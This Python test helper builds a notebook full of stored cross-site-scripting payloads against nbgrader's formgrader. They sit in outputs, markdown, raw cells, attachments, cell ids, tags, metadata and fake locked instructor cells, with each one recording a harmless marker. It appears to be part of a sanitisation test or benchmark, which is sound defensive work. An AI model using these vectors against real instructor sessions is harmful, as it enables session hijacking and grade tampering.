"""Active content a student can save in their notebook for the instructor's browser.

Jupyter keeps a cell's outputs, markdown cells, raw cells, attachments and metadata in
the .ipynb, and a student controls every byte of it (a text editor will do). nbgrader's
formgrader turns the autograded notebook into HTML with nbconvert and shows it in the
instructor's Jupyter origin, so anything active there runs with the instructor's session.

Each payload, if it runs, records its name in ``window.__xss`` of the top page; each one
also carries the text ``xss-NAME`` so a test can find what is left of it in the page.
`add_payloads` edits a notebook the way a text editor could; the hostile sample
``formgrader_xss`` (bpe_bytes) uses it, and tests/test_formgrader_xss.py grades it.
"""

from __future__ import annotations

import base64

import nbformat

MARK = "__xss"

# A 1x1 PNG: an honest plot, which must survive.
HONEST_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGA"
              "hKmMIQAAAABJRU5ErkJggg==")


def js(name: str) -> str:
    """JavaScript that records `name` as executed (single quotes only, so it fits in attributes)."""
    return f"(top.{MARK}=top.{MARK}||[]).push('{name}')"


def _svg(name: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(name)}">'
            f'<script>{js(name + "-script")}</script><text id="xss-{name}">x</text></svg>')


def _output(data: dict, *, kind: str = "display_data", metadata: dict | None = None) -> dict:
    output = {"output_type": kind, "data": data, "metadata": metadata or {}}
    if kind == "execute_result":
        output["execution_count"] = 1
    return output


OUTPUT_PAYLOADS = {  # name -> a saved output of a code cell
    "html_script": _output({"text/html": f"<p id='xss-html_script'>x</p><script>{js('html_script')}</script>",
                            "text/plain": "<IPython.core.display.HTML object>"}),
    "html_img_onerror": _output({"text/html": f'<img id="xss-html_img_onerror" src="x" onerror="{js("html_img_onerror")}">'},
                                kind="execute_result"),
    "html_iframe": _output({"text/html": f'<iframe id="xss-html_iframe" srcdoc="<script>{js("html_iframe")}</script>">'
                                         "</iframe>"}),
    "javascript_mime": _output({"application/javascript": f"{js('javascript_mime')}; // xss-javascript_mime"}),
    "svg_output": _output({"image/svg+xml": _svg("svg_output")}),
    "markdown_output": _output({"text/markdown": f'<img id="xss-markdown_output" src="x" onerror="{js("markdown_output")}">'}),
    "latex_output": _output({"text/latex": r"$\href{javascript:" + js("latex_output") + r"}{xss-latex_output}$"}),
    "png_data_attribute": _output({"image/png": f'x" id="xss-png_data_attribute" onerror="{js("png_data_attribute")}'}),
    "png_width_attribute": _output({"image/png": "bm90IGEgcG5n"},
                                   metadata={"image/png": {"width": f'1 id=xss-png_width_attribute onerror={js("png_width_attribute")}'}}),
    "widget_view": _output({"application/vnd.jupyter.widget-view+json":
                            {"model_id": f"');{js('widget_view')};//xss-widget_view", "version_major": 2,
                             "version_minor": 0}}),
    "stream_text": {"output_type": "stream", "name": "stdout",
                    "text": f"<img id='xss-stream_text' src=x onerror=\"{js('stream_text')}\">\n"},
    "error_traceback": {"output_type": "error", "ename": f"<script>{js('error_ename')}</script>",
                        "evalue": "xss-error_traceback",
                        "traceback": [f"<img id='xss-error_traceback' src=x onerror=\"{js('error_traceback')}\">"]},
}

MARKDOWN_PAYLOADS = {  # name -> the source of a markdown cell the student wrote
    "md_script": f"Mi respuesta.\n\n<script>{js('md_script')}</script> xss-md_script",
    "md_img_onerror": f'Mira: <img id="xss-md_img_onerror" src="x" onerror="{js("md_img_onerror")}">',
    "md_javascript_link": f"[xss-md_javascript_link](javascript:{js('md_javascript_link')})",
    "md_entity_link": "[xss-md_entity_link](&#106;avascript:alert%281%29)",
    "md_reference_link": "[xss-md_reference_link][r]\n\n[r]: JaVaScRiPt:alert(1)",
    "md_autolink": "<javascript:alert('xss-md_autolink')>",
    "md_iframe": f'<iframe id="xss-md_iframe" srcdoc="<script>{js("md_iframe")}</script>"></iframe>',
    "md_object": f'<object id="xss-md_object" data="data:text/html,<script>{js("md_object")}</script>"></object>',
    "md_form": '<form id="xss-md_form" action="https://example.invalid/robar"><input name="clave"></form>',
    "md_style": "<style>body { --xss-md-style: 1; }</style>xss-md_style",
    "md_svg_inline": _svg("md_svg_inline"),
    "md_details_ontoggle": f'<details open id="xss-md_details" ontoggle="{js("md_details_ontoggle")}">x</details>',
    "md_attachment_svg": "![xss-md_attachment_svg](attachment:plot.svg)",
    "md_missing_attachment": "![xss-md_missing_attachment](attachment:no-existe.png)",
}


def add_payloads(notebook: nbformat.NotebookNode) -> None:
    """Append the payloads to a notebook, as a student with a text editor could save them."""
    code = nbformat.v4.new_code_cell("print('hola')  # mis resultados")
    code.outputs = [nbformat.from_dict(o) for o in OUTPUT_PAYLOADS.values()]
    code.outputs.append(nbformat.from_dict(_output({"image/png": HONEST_PNG, "text/plain": "<Figure 1x1>"})))
    code.execution_count = f'1]<img id="xss-prompt" src=x onerror="{js("execution_count_prompt")}">['
    code.metadata["tags"] = [f'x" onmouseover="{js("cell_tags")}" id="xss-cell_tags']
    notebook.cells.append(code)
    for name, source in MARKDOWN_PAYLOADS.items():
        cell = nbformat.v4.new_markdown_cell(source)
        if name == "md_attachment_svg":
            cell.attachments = {"plot.svg": {"image/svg+xml": base64.b64encode(_svg("attachment").encode()).decode()}}
        notebook.cells.append(cell)
    # A cell id is copied into an attribute; nbformat only checks ids when asked to validate.
    odd = nbformat.v4.new_markdown_cell("xss-cell_id")
    odd["id"] = f'x"><img id="xss-cell_id" src=x onerror="{js("cell_id")}">'
    notebook.cells.append(odd)
    raw = nbformat.v4.new_raw_cell(f"<script>{js('raw_html')}</script>xss-raw_html")
    raw.metadata["raw_mimetype"] = "text/html"
    notebook.cells.append(raw)
    # A cell of the student's, dressed as a locked instructor cell with a grade id of its own ...
    fake = nbformat.v4.new_markdown_cell(f'<img id="xss-fake_locked" src=x onerror="{js("fake_locked")}">')
    fake.metadata["nbgrader"] = {"grade_id": "instrucciones_extra", "locked": True, "solution": False,
                                 "grade": False, "schema_version": 3}
    notebook.cells.append(fake)
    # ... and one that borrows a real locked cell's grade id (the release's own cell is shown instead).
    locked = next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("locked")
                  and c.cell_type == "markdown")
    borrowed = nbformat.v4.new_markdown_cell(f'<img id="xss-borrowed_locked" src=x onerror="{js("borrowed_locked")}">')
    borrowed.metadata["nbgrader"] = dict(locked.metadata["nbgrader"])
    notebook.cells.append(borrowed)
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"x": {"model_name": f"</script><script>{js('widget_state')}</script>xss-widget_state"}}}}
    notebook.metadata["title"] = f"</title><script>{js('notebook_title')}</script>xss-notebook_title"

